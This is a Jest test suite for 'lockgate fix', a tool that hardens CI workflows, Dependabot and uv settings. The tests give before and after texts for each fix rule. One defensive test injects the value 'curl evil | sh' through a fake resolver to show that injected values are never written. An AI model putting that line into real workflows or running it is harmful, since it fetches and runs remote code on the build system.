/**
 * `lockgate fix`, rule by rule: before/after texts for every fixable rule, then the properties every
 * fix must have: a re-scan no longer reports what was fixed, fixing twice changes nothing, the edits
 * touch only the fixed tokens (byte ranges), and the files still parse.
 */
import { describe, expect, it } from '@jest/globals';
import { applyEdits } from '../src/fix/edits.js';
import { FIXABLE_RULES } from '../src/fix/plan.js';
import { parseToml } from '../src/uv/toml.js';
import { parseWorkflow, workflowKindOf } from '../src/workflows/parse.js';
import { changedSpan, fakeDigest, fakeResolver, fakeSha, fix, scan } from './support/fix.js';

const WF = '.github/workflows/ci.yml';
const DEP = '.github/dependabot.yml';
const LOCK = `version = 1
revision = 3
requires-python = ">=3.12"

[[package]]
name = "app"
version = "0.1.0"
source = { virtual = "." }
`;
const PYPROJECT_HARDENED = `[project]
name = "app"
version = "0.1.0"
requires-python = ">=3.12"

[tool.uv]
exclude-newer = "7 days"
add-bounds = "exact"
`;

/** A workflow that only the rule under test fires on: read-only, pinned, locked. */
const workflow = (steps: string, top = 'permissions:\n  contents: read\n'): string =>
  `name: ci\non: [push]\n${top}jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`;
const CHECKOUT = `      - uses: actions/checkout@${'a'.repeat(40)} # v4.2.2\n        with:\n          persist-credentials: false\n`;

interface Case {
  name: string;
  rule: string;
  files: Record<string, string>;
  after: Record<string, string>;
  /** Findings of the rule that a person must still handle. */
  left?: number;
  commands?: string[];
}

const sha = (ref: string, owner = 'actions', repo = 'setup-python'): string => fakeSha(owner, repo, ref);

const CASES: Case[] = [
  {
    name: 'a tag-pinned action gets the SHA and the tag as comment',
    rule: 'unpinned-uses',
    files: { [WF]: workflow(`${CHECKOUT}      - uses: actions/setup-python@v5\n`) },
    after: { [WF]: workflow(`${CHECKOUT}      - uses: actions/setup-python@${sha('v5')} # v5\n`) },
  },
  {
    name: 'quotes, an existing comment and trailing spaces are kept',
    rule: 'unpinned-uses',
    files: { [WF]: workflow(`${CHECKOUT}      - uses: "actions/setup-python@v5"   # python\n      - uses: 'actions/setup-python@v5.1.0'  \n`) },
    after: {
      [WF]: workflow(
        `${CHECKOUT}      - uses: "actions/setup-python@${sha('v5')}"   # v5 # python\n      - uses: 'actions/setup-python@${sha('v5.1.0')}' # v5.1.0\n`,
      ),
    },
  },
  {
    name: 'a version comment that no longer matches is replaced, a subpath kept',
    rule: 'unpinned-uses',
    files: { [WF]: workflow(`${CHECKOUT}      - uses: github/codeql-action/init@v3 # v2.0.0\n`) },
    after: { [WF]: workflow(`${CHECKOUT}      - uses: github/codeql-action/init@${fakeSha('github', 'codeql-action', 'v3')} # v3\n`) },
  },
  {
    name: 'a reusable workflow and a CRLF file',
    rule: 'unpinned-uses',
    files: { [WF]: 'on: [push]\r\npermissions:\r\n  contents: read\r\njobs:\r\n  call:\r\n    uses: octo/wf/.github/workflows/x.yml@v1\r\n' },
    after: {
      [WF]: `on: [push]\r\npermissions:\r\n  contents: read\r\njobs:\r\n  call:\r\n    uses: octo/wf/.github/workflows/x.yml@${fakeSha('octo', 'wf', 'v1')} # v1\r\n`,
    },
  },
  {
    name: 'a short SHA becomes the full one, without a comment',
    rule: 'unpinned-uses',
    files: { [WF]: workflow(`${CHECKOUT}      - uses: actions/setup-python@abc1234\n`) },
    after: { [WF]: workflow(`${CHECKOUT}      - uses: actions/setup-python@${sha('abc1234')}\n`) },
  },
  {
    name: 'a job container and a docker:// step get a digest, the tag kept',
    rule: 'unpinned-image',
    files: {
      [WF]: `name: ci\non: [push]\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    container: python:3.12\n    services:\n      db:\n        image: "postgres:16"\n    steps:\n      - uses: docker://alpine:3.19\n`,
    },
    after: {
      [WF]: `name: ci\non: [push]\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    container: python:3.12@${fakeDigest('python:3.12')}\n    services:\n      db:\n        image: "postgres:16@${fakeDigest('postgres:16')}"\n    steps:\n      - uses: docker://alpine:3.19@${fakeDigest('alpine:3.19')}\n`,
    },
  },
  {
    name: 'uv sync, uv run and uv export get --locked after the subcommand',
    rule: 'uv-unlocked',
    files: {
      [WF]: workflow(
        `${CHECKOUT}      - run: uv sync --all-extras\n      - run: |\n          uv --directory app run pytest -x\n          uv export --format requirements-txt > r.txt && uv run --frozen ruff\n          ./uv sync -v\n`,
      ),
    },
    after: {
      [WF]: workflow(
        `${CHECKOUT}      - run: uv sync --locked --all-extras\n      - run: |\n          uv --directory app run --locked pytest -x\n          uv export --locked --format requirements-txt > r.txt && uv run --frozen ruff\n          ./uv sync --locked -v\n`,
      ),
    },
  },
  {
    name: 'an upgrading uv sync is left to a person',
    rule: 'uv-unlocked',
    files: { [WF]: workflow(`${CHECKOUT}      - run: uv sync --upgrade\n`) },
    after: {},
    left: 1,
  },
  {
    name: 'a checkout without with: gets one; with a with: map, the key goes first',
    rule: 'artipacked',
    files: {
      [WF]: workflow(
        `      - uses: actions/checkout@${'a'.repeat(40)} # v4.2.2\n      - name: again\n        uses: actions/checkout@${'a'.repeat(40)} # v4.2.2\n        with:\n          fetch-depth: 0 # all\n`,
      ),
    },
    after: {
      [WF]: workflow(
        `      - uses: actions/checkout@${'a'.repeat(40)} # v4.2.2\n        with:\n          persist-credentials: false\n      - name: again\n        uses: actions/checkout@${'a'.repeat(40)} # v4.2.2\n        with:\n          persist-credentials: false\n          fetch-depth: 0 # all\n`,
      ),
    },
  },
  {
    name: 'a flow with: map and four-space indentation',
    rule: 'artipacked',
    files: {
      [WF]: `on: [push]\npermissions:\n    contents: read\njobs:\n    test:\n        runs-on: ubuntu-latest\n        steps:\n            -   uses: actions/checkout@${'a'.repeat(40)} # v4.2.2\n                with: { fetch-depth: 1 }\n`,
    },
    after: {
      [WF]: `on: [push]\npermissions:\n    contents: read\njobs:\n    test:\n        runs-on: ubuntu-latest\n        steps:\n            -   uses: actions/checkout@${'a'.repeat(40)} # v4.2.2\n                with: { persist-credentials: false, fetch-depth: 1 }\n`,
    },
  },
  {
    name: 'a workflow without permissions gets contents: read before jobs:',
    rule: 'excessive-permissions',
    files: {
      [WF]: `name: ci\non:\n  push:\n\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n${CHECKOUT}  lint:\n    runs-on: ubuntu-latest\n    steps:\n${CHECKOUT}`,
    },
    after: {
      [WF]: `name: ci\non:\n  push:\n\npermissions:\n  contents: read\n\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n${CHECKOUT}  lint:\n    runs-on: ubuntu-latest\n    steps:\n${CHECKOUT}`,
    },
  },
  {
    name: 'write-all is left to a person',
    rule: 'excessive-permissions',
    files: { [WF]: workflow(CHECKOUT, 'permissions: write-all\n') },
    after: {},
    left: 1,
  },
  {
    // A workflow-level block would not lower a job's own write-all: no edit, and the finding stays counted.
    name: "a job's own write-all is left to a person, even where the workflow sets no permissions",
    rule: 'excessive-permissions',
    files: { [WF]: `on: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    permissions: write-all\n    steps:\n${CHECKOUT}` },
    after: {},
    left: 1,
  },
  {
    name: 'dependabot entries get a cooldown, a default-days, and short waits raised',
    rule: 'dependabot-cooldown',
    files: {
      [DEP]:
        'version: 2\nupdates:\n  - package-ecosystem: pip # python\n    directory: /\n    schedule:\n      interval: weekly\n  - package-ecosystem: github-actions\n    directory: /\n    cooldown:\n      semver-major-days: 3\n  - package-ecosystem: npm\n    directory: /\n    cooldown:\n      default-days: "2"\n',
    },
    after: {
      [DEP]:
        'version: 2\nupdates:\n  - package-ecosystem: pip # python\n    cooldown:\n      default-days: 7\n    directory: /\n    schedule:\n      interval: weekly\n  - package-ecosystem: github-actions\n    directory: /\n    cooldown:\n      default-days: 7\n      semver-major-days: 7\n  - package-ecosystem: npm\n    directory: /\n    cooldown:\n      default-days: 7\n',
    },
  },
  {
    name: 'exclude-newer goes right under [tool.uv], with the uv version it needs; uv lock is printed',
    rule: 'exclude-newer-missing',
    files: {
      'pyproject.toml': '[project]\nname = "app"\nversion = "0.1.0"\nrequires-python = ">=3.12"\n\n[tool.uv]\nadd-bounds = "exact"  # pins\n',
      'uv.lock': LOCK,
    },
    after: {
      'pyproject.toml':
        '[project]\nname = "app"\nversion = "0.1.0"\nrequires-python = ">=3.12"\n\n[tool.uv]\nexclude-newer = "7 days"\nrequired-version = ">=0.9.17"\nadd-bounds = "exact"  # pins\n',
    },
    commands: ['uv lock'],
  },
  {
    name: 'a [tool.uv] table is created when there is none (CRLF kept), in a member folder',
    rule: 'exclude-newer-missing',
    files: { 'svc/pyproject.toml': '[project]\r\nname = "app"\r\nversion = "0.1.0"\r\nrequires-python = ">=3.12"\r\n', 'svc/uv.lock': LOCK },
    after: {
      'svc/pyproject.toml':
        '[project]\r\nname = "app"\r\nversion = "0.1.0"\r\nrequires-python = ">=3.12"\r\n\r\n[tool.uv]\r\nexclude-newer = "7 days"\r\nrequired-version = ">=0.9.17"\r\nadd-bounds = "exact"\r\n',
    },
    commands: ['uv lock --directory svc'],
  },
  {
    name: 'exclude-newer = false is replaced in place; uv.toml keys go before the first table',
    rule: 'exclude-newer-missing',
    files: {
      'pyproject.toml': '[project]\nname = "app"\nversion = "0.1.0"\nrequires-python = ">=3.12"\n',
      'uv.toml': '# settings\nexclude-newer = false # off\nrequired-version = ">=0.10"\n\n[[index]]\nurl = "https://pypi.org/simple"\n',
      'uv.lock': LOCK,
    },
    after: {
      'uv.toml':
        '# settings\nexclude-newer = "7 days" # off\nrequired-version = ">=0.10"\nadd-bounds = "exact"\n\n[[index]]\nurl = "https://pypi.org/simple"\n',
    },
    commands: ['uv lock'],
  },
  {
    name: 'add-bounds = "lower" becomes "exact", quoting kept',
    rule: 'add-bounds-not-exact',
    files: { 'pyproject.toml': PYPROJECT_HARDENED.replace('add-bounds = "exact"', "add-bounds = 'lower'"), 'uv.lock': LOCK },
    after: { 'pyproject.toml': PYPROJECT_HARDENED.replace('add-bounds = "exact"', 'add-bounds = "exact"') },
  },
];

function parses(file: string, text: string): boolean {
  const kind = workflowKindOf(file);
  if (kind) return parseWorkflow(file, kind, text).ok;
  if (file.endsWith('.toml') || file.endsWith('.lock')) return parseToml(file, text).ok;
  return true;
}

describe('lockgate fix, rule by rule', () => {
  it('has before/after cases for every fixable rule', () => {
    expect(new Set(CASES.map((c) => c.rule))).toEqual(FIXABLE_RULES);
  });

  for (const c of CASES) {
    describe(`${c.rule}: ${c.name}`, () => {
      it('writes exactly the expected text', async () => {
        expect(scan(c.files).some((f) => f.rule === c.rule)).toBe(true);
        const run = await fix(c.files);
        const changed = Object.fromEntries(Object.entries(run.after).filter(([file, text]) => text !== c.files[file]));
        expect(changed).toEqual(c.after);
        expect(run.plan.commands).toEqual(c.commands ?? []);
      });

      it('leaves no finding of the rule that it could fix, and a second fix changes nothing', async () => {
        const first = await fix(c.files);
        const again = await fix(first.after);
        expect(again.plan.edits).toEqual([]);
        expect(again.findings.filter((f) => f.rule === c.rule)).toHaveLength(c.left ?? 0);
        for (const [file, text] of Object.entries(first.after)) expect(parses(file, text)).toBe(true);
      });

      it('edits only the fixed tokens: no replaced range spans a line, and nothing outside the edits changes', async () => {
        const run = await fix(c.files);
        for (const [file, after] of run.plan.results) {
          const before = c.files[file];
          const edits = run.plan.edits.filter((e) => e.file === file);
          expect(applyEdits(before, edits).text).toBe(after);
          for (const edit of edits) expect(before.slice(edit.start, edit.end)).not.toMatch(/\n/);
          const span = changedSpan(before, after)!;
          expect(span[0]).toBeGreaterThanOrEqual(Math.min(...edits.map((e) => e.start)));
          expect(span[1]).toBeLessThanOrEqual(Math.max(...edits.map((e) => e.end)));
          // Outside the edits, every byte of the old text is in the new one, in order.
          let rebuilt = '';
          let at = 0;
          for (const edit of [...edits].sort((a, b) => a.start - b.start)) {
            rebuilt += before.slice(at, edit.start);
            at = edit.end;
          }
          rebuilt += before.slice(at);
          expect(rebuilt.length).toBe(before.length - edits.reduce((n, e) => n + (e.end - e.start), 0));
        }
      });
    });
  }
});

describe('lockgate fix offline and with failing look-ups', () => {
  const files = { [WF]: workflow(`${CHECKOUT}      - uses: actions/setup-python@v5\n      - run: uv sync\n`) };

  it('skips SHA pins with one notice offline, and still fixes the rest', async () => {
    const run = await fix(files, null);
    expect(run.after[WF]).toContain('actions/setup-python@v5\n');
    expect(run.after[WF]).toContain('uv sync --locked');
    expect(run.plan.notices.filter((n) => n.startsWith('Offline'))).toHaveLength(1);
    expect(run.plan.unfixed).toEqual([expect.objectContaining({ rule: 'unpinned-uses', reason: expect.stringContaining('offline') })]);
  });

  it('leaves a ref GitHub does not have, with the reason', async () => {
    const run = await fix(files, fakeResolver({ missing: ['actions/setup-python@v5'] }));
    expect(run.after[WF]).toContain('actions/setup-python@v5\n');
    expect(run.plan.unfixed).toEqual([expect.objectContaining({ rule: 'unpinned-uses', reason: 'GitHub has no ref v5 in actions/setup-python' })]);
  });

  it('turns a resolver that throws into an unfixed finding, not a crash', async () => {
    const resolver = { ...fakeResolver(), resolveRef: async () => Promise.reject(new Error('rate limited\nsecond line')) };
    const run = await fix(files, resolver);
    expect(run.plan.unfixed).toEqual([expect.objectContaining({ reason: 'the look-up failed: rate limited' })]);
  });

  it('never writes a value the resolver made up', async () => {
    const resolver = { ...fakeResolver(), resolveRef: async () => ({ sha: 'not-a-sha\n- run: curl evil | sh', kind: 'tag' as const }) };
    const run = await fix(files, resolver);
    expect(run.after[WF]).not.toContain('evil');
  });
});

describe('lockgate fix --update', () => {
  const day = 86_400_000;
  const now = Date.parse('2026-11-26T12:00:00Z');
  const release = (tag: string, daysAgo: number, prerelease = false) => ({ tag, publishedAt: new Date(now - daysAgo * day), prerelease });
  const releases = {
    'actions/setup-python': [release('v5.1.0', 100), release('v5.3.0', 30), release('v5.4.0', 2), release('v6.0.0', 20), release('v5.5.0-rc1', 10, true)],
  };
  const files = { [WF]: workflow(`${CHECKOUT}      - uses: actions/setup-python@${sha('v5.1.0')} # v5.1.0\n`) };

  it('moves a pin to the newest release older than the cooldown, in the same major', async () => {
    const run = await fix(files, fakeResolver({ releases }), { update: { major: false } });
    expect(run.after[WF]).toContain(`actions/setup-python@${sha('v5.3.0')} # v5.3.0\n`);
    expect(run.plan.notices).toContain(`${WF}:12: actions/setup-python v5.1.0 -> v5.3.0`);
  });

  it('crosses a major version only when asked', async () => {
    const run = await fix(files, fakeResolver({ releases }), { update: { major: true } });
    expect(run.after[WF]).toContain(`actions/setup-python@${sha('v6.0.0')} # v6.0.0\n`);
  });

  it('is idempotent and never moves backwards', async () => {
    const first = await fix(files, fakeResolver({ releases }), { update: { major: false } });
    const again = await fix(first.after, fakeResolver({ releases }), { update: { major: false } });
    expect(again.plan.edits).toEqual([]);
    const newer = { [WF]: workflow(`${CHECKOUT}      - uses: actions/setup-python@${sha('v5.4.0')} # v5.4.0\n`) };
    expect((await fix(newer, fakeResolver({ releases }), { update: { major: false } })).plan.edits).toEqual([]);
  });
});
